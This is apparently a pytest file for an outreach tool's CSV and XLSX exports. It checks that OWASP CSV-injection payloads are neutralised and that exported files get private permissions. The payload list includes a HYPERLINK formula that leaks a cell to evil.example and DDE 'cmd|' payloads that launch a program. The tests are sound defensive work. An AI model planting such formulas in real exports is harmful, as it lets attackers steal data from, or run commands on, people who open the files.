"""OWASP CSV-injection payloads through every CSV and XLSX export; private file modes."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from outreach import safeio
from outreach.reporting import reports
from outreach.cli import main
from outreach.ledger.db import Database
from outreach.ledger.models import Delivery
from tests.helpers import numbers, write_campaign

#: OWASP "CSV Injection" examples (https://owasp.org/www-community/attacks/CSV_Injection) and
#: variants: each leading character, DDE, HYPERLINK exfiltration, full-width equals.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "\uff1d1+1",
]
CID = "test-campaign"


def cli(db_url: str, *args: str) -> tuple[int, str, str]:
    r = CliRunner().invoke(main, ["--database-url", db_url, "--show-numbers", *args])
    return r.exit_code, r.stdout, r.stderr


def assert_csv_safe(text: str) -> list[list[str]]:
    """Every cell of ``text`` (CSV) is safe: none starts with a formula character unless it is
    a bare number literal. Returns the rows."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows
    for row in rows:
        for cell in row:
            assert not safeio.is_formula_like(cell), (cell, row)
    return rows


def assert_xlsx_safe(path: Path) -> dict[str, list[list[object]]]:
    """No formula cell; every text cell starting with a formula character is a string cell
    marked quotePrefix. Returns the values by sheet."""
    wb = load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in safeio.FORMULA_LEADS:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
        out[ws.title] = [[c.value for c in row] for row in ws.iter_rows()]
    return out


@pytest.fixture
def poisoned(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A campaign sent to the outbox whose list has a payload in every district, ward and
    name, and whose failed deliveries carry payload error codes and reasons."""
    toml = write_campaign(tmp_path, n=len(PAYLOADS))
    lst = tmp_path / f"{CID}-list.csv"
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["phone", "name", "district", "ward"])
    for p, payload in zip(numbers(len(PAYLOADS)), PAYLOADS):
        w.writerow([p, payload, payload, payload])
    lst.write_text(buf.getvalue(), encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'p.db'}"
    code, out, err = cli(url, "campaign", "launch", str(toml))
    assert code == 0, err
    db = Database(url)
    with db.engine.begin() as conn:
        n = conn.execute(update(Delivery).where(Delivery.id % 2 == 0).values(
            status="failed", error_code="@SUM(1+1)", error_reason=PAYLOADS[0])).rowcount
    assert n == len(PAYLOADS) // 2
    db.dispose()
    yield url, tmp_path


def stored_districts(url: str) -> set[str]:
    db = Database(url)
    with db.engine.connect() as conn:
        got = {r[0] for r in conn.execute(Delivery.__table__.select().with_only_columns(
            Delivery.district))}
    db.dispose()
    return got


def test_neutralise_rule() -> None:
    assert [safeio.neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert safeio.neutralise("=1+1") == "'=1+1"
    for kept in (-3, 0, 2.5, None, "-3", "-118", "+84912345678", "Ninh Kiều", "", "a=b", " =1"):
        assert safeio.neutralise(kept) == kept
    for changed in ("+84 912 345 678", "-118: no-zalo-account", "+1+cmd|x", "-", "@"):
        assert safeio.neutralise(changed) == "'" + changed


def test_report_csv_every_breakdown(poisoned: tuple[str, Path]) -> None:
    url, tmp = poisoned
    districts = stored_districts(url)
    assert any(d and d[0] in safeio.FORMULA_LEADS for d in districts)  # the payloads got in
    for by in (["district"], ["ward"], ["reasons"], ["all"]):
        out = tmp / f"r-{by[0]}.csv"
        args = [a for b in by for a in ("--by", b)]
        code, _, err = cli(url, "report", CID, "--format", "csv", *args, "--out", str(out))
        assert code == 0, err
        rows = assert_csv_safe(out.read_text("utf-8-sig"))
        flat = {c for r in rows for c in r}
        if by == ["reasons"]:
            assert {"'@SUM(1+1)", "'" + PAYLOADS[0]} <= flat
        else:
            assert {"'" + d for d in districts if safeio.is_formula_like(d)} <= flat
        code, stdout, _ = cli(url, "report", CID, "--format", "csv", *args)
        assert code == 0 and stdout == out.read_text("utf-8-sig")
        assert oct(os.stat(out).st_mode & 0o777) == "0o600"


def test_report_xlsx(poisoned: tuple[str, Path]) -> None:
    url, tmp = poisoned
    out = tmp / "r.xlsx"
    code, _, err = cli(url, "report", CID, "--format", "xlsx", "--out", str(out))
    assert code == 0, err
    sheets = assert_xlsx_safe(out)
    districts = [r[0] for r in sheets["district"][1:-1]]
    assert set(districts) == stored_districts(url)  # the text as written, not a quote added
    reasons = sheets["failure_reasons"]
    assert reasons[1][2:4] == ["@SUM(1+1)", PAYLOADS[0]]
    assert isinstance(sheets["district"][-1][2], int)  # counts stay numbers
    assert oct(os.stat(out).st_mode & 0o777) == "0o600"


def test_xlsx_append_keeps_numbers_and_dates() -> None:
    wb = Workbook()
    ws = wb.active
    safeio.xlsx_append(ws, [-3, 2.5, "-3", "=1+1", "Cần Thơ", None])
    cells = list(ws[1])
    assert [c.data_type for c in cells[:5]] == ["n", "n", "s", "s", "s"]
    assert [c.value for c in cells] == [-3, 2.5, "-3", "=1+1", "Cần Thơ", None]
    assert [c.quotePrefix for c in cells[:5]] == [False, False, False, True, False]


def test_recipients_list_csv(poisoned: tuple[str, Path]) -> None:
    url, _ = poisoned
    code, out, err = cli(url, "recipients", "list", "--format", "csv")
    assert code == 0, err
    rows = assert_csv_safe(out)
    assert len(rows) == 1 + len(PAYLOADS)
    assert {r[0] for r in rows[1:]} == set(numbers(len(PAYLOADS)))  # E.164 kept usable


@pytest.mark.parametrize("mode", [[], ["--not-reached"]])
def test_deliveries_export(poisoned: tuple[str, Path], mode: list[str]) -> None:
    url, tmp = poisoned
    out = tmp / "new-folder" / "export.csv"
    out.parent.mkdir()  # an output folder must exist (tests/test_out_paths.py)
    code, _, err = cli(url, "deliveries", "list", CID, *mode, "--export", str(out))
    assert code == 0, err
    rows = assert_csv_safe(out.read_text("utf-8-sig"))
    head = rows[0]
    expected = len(PAYLOADS) if not mode else len(PAYLOADS) // 2
    assert len(rows) == 1 + expected
    phones = {r[head.index("phone")] for r in rows[1:]}
    assert phones <= set(numbers(len(PAYLOADS))) and len(phones) == expected
    reasons = {r[head.index("error_reason")] for r in rows[1:]}
    assert "'" + PAYLOADS[0] in reasons
    assert oct(os.stat(out).st_mode & 0o777) == "0o600"


def test_reject_file(tmp_path: Path) -> None:
    lst = tmp_path / "bad.csv"
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["phone", "name", "district"])
    for payload in PAYLOADS:
        w.writerow([payload, payload, payload])
    w.writerow([numbers(1)[0], "Người 1", "Ninh Kiều"])
    w.writerow([numbers(1)[0], "Người 1", "Ninh Kiều"])  # a duplicate
    lst.write_text(buf.getvalue(), encoding="utf-8")
    rej = tmp_path / "rej.csv"
    url = f"sqlite:///{tmp_path / 'r.db'}"
    code, _, err = cli(url, "recipients", "import", str(lst), "--reject-file", str(rej),
                       "--allow-few-valid")  # a list of attacks: mostly unusable on purpose
    assert code == 0, err
    rows = assert_csv_safe(rej.read_text("utf-8-sig"))
    assert [r[0] for r in rows[1:]].count("duplicate") == 1
    # every payload line is rejected (a cell may split into several pieces: one row each)
    assert {int(r[2]) for r in rows[1:] if r[0] == "rejected"} == set(range(2, 2 + len(PAYLOADS)))
    assert any(r[3].startswith("'=cmd") for r in rows)  # kept, neutralised
    assert oct(os.stat(rej).st_mode & 0o777) == "0o600"


def test_a_well_behaved_campaign_exports_exactly_as_before(tmp_path: Path) -> None:
    toml = write_campaign(tmp_path, n=6)
    url = f"sqlite:///{tmp_path / 'ok.db'}"
    assert cli(url, "campaign", "launch", str(toml))[0] == 0
    for args in (["report", CID, "--format", "csv", "--by", "all"],
                 ["recipients", "list", "--format", "csv"]):
        code, out, _ = cli(url, *args)
        assert code == 0
        assert "'" not in out and "Ninh Kiều" in out
    code, out, _ = cli(url, "recipients", "list", "--format", "csv")
    assert out.splitlines()[1].startswith("+849655000")


def test_to_csv_with_tab_and_carriage_return_keys() -> None:
    data = {"by_district": {}, "failure_reasons": [
        {"status": "failed", "gateway": "\tgw", "error_code": "\r=1", "error_reason": "-x",
         "count": 3}]}
    text = reports.to_csv(data, ["reasons"])
    rows = assert_csv_safe(text)
    assert rows[1] == ["failed", "'\tgw", "'\r=1", "'-x", "3"]
